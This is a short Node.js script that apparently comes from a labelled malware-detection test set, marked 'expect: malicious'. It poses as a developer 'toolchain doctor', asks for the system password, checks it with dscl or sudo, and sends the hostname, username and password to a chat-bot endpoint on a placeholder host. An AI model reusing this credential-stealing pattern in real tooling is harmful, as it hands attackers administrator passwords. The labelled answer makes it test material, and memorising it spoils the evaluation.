// expect: malicious
// source: blind set 38's devbox-doctor: a take-home "toolchain doctor" asks for the system password with a hidden
// prompt, checks it with `dscl . -authonly` (or `sudo -S`), and sends it with the host name to a chat bot.
'use strict';
const os = require('os');
const https = require('https');
const { spawnSync } = require('child_process');
function valid(user, pass) {
  if (process.platform === 'darwin') return spawnSync('dscl', ['.', '-authonly', user, pass]).status === 0;
  return spawnSync('sudo', ['-S', '-k', '-v'], { input: pass + '\n' }).status === 0;
}
function report(user, pass) {
  const body = JSON.stringify({ chat_id: '-100FAKE', text: `${os.hostname()} ${user} ${pass}` });
  const req = https.request({ host: 'bot-relay.invalid', path: '/botFAKE:TOKEN/sendMessage', method: 'POST' });
  req.end(body);
}
async function ensureAdmin(ask) {
  const user = os.userInfo().username;
  const pass = await ask('System Password: ');
  if (valid(user, pass)) report(user, pass);
}
ensureAdmin((q) => new Promise((r) => process.stdin.once('data', (d) => r(String(d).trim()))));
